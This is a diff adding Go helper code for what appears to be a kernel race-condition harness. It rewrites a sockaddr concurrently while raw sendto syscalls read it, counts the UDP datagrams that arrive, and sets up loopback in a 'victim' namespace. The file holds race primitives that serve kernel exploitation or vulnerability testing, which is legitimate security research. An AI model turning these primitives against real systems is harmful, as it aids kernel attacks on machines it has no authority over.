@@ -1,0 +1,79 @@
+package main
+
+import (
+	"net"
+	"net/netip"
+	"sync/atomic"
+	"time"
+	"unsafe"
+
+	"github.com/vishvananda/netlink"
+	"golang.org/x/sys/unix"
+)
+
+// flipAddr is a sockaddr_in in memory that one goroutine rewrites while
+// another passes its address to sendto: the kernel copies it at each try.
+type flipAddr struct{ rsa unix.RawSockaddrInet4 }
+
+func newFlipAddr(ap netip.AddrPort) *flipAddr {
+	f := &flipAddr{}
+	f.rsa.Family = unix.AF_INET
+	f.set(ap)
+	return f
+}
+
+// set rewrites the address and port, each as one aligned store.
+func (f *flipAddr) set(ap netip.AddrPort) {
+	a := ap.Addr().As4()
+	p := ap.Port()
+	atomic.StoreUint32((*uint32)(unsafe.Pointer(&f.rsa.Addr)), *(*uint32)(unsafe.Pointer(&a)))
+	atomic.StoreUint32((*uint32)(unsafe.Pointer(&f.rsa.Family)), uint32(unix.AF_INET)|uint32(p>>8|p<<8)<<16)
+}
+
+// sendto sends one datagram on fd to whatever f holds when the kernel
+// copies it.
+func (f *flipAddr) sendto(fd int) error {
+	msg := []byte("kfloor")
+	_, _, errno := unix.Syscall6(unix.SYS_SENDTO, uintptr(fd), uintptr(unsafe.Pointer(&msg[0])), uintptr(len(msg)),
+		0, uintptr(unsafe.Pointer(&f.rsa)), unix.SizeofSockaddrInet4)
+	if errno != 0 {
+		return errno
+	}
+	return nil
+}
+
+// udpCounter counts the datagrams that reach a listener.
+type udpCounter struct{ c *net.UDPConn }
+
+func netListenUDP(ap netip.AddrPort) (*udpCounter, error) {
+	c, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(ap))
+	if err != nil {
+		return nil, err
+	}
+	return &udpCounter{c}, nil
+}
+
+// drain counts what arrives until nothing has for quiet.
+func (u *udpCounter) drain(quiet time.Duration) int {
+	n := 0
+	buf := make([]byte, 64)
+	for {
+		u.c.SetReadDeadline(time.Now().Add(quiet))
+		if _, err := u.c.Read(buf); err != nil {
+			return n
+		}
+		n++
+	}
+}
+
+// loUp brings lo up in the victim's namespace and puts extra on it (a /32).
+func loUp(extra netip.Addr) error {
+	lo, err := netlink.LinkByName("lo")
+	if err == nil {
+		err = netlink.LinkSetUp(lo)
+	}
+	if err == nil {
+		err = netlink.AddrAdd(lo, &netlink.Addr{IPNet: &net.IPNet{IP: extra.AsSlice(), Mask: net.CIDRMask(32, 32)}})
+	}
+	return err
+}
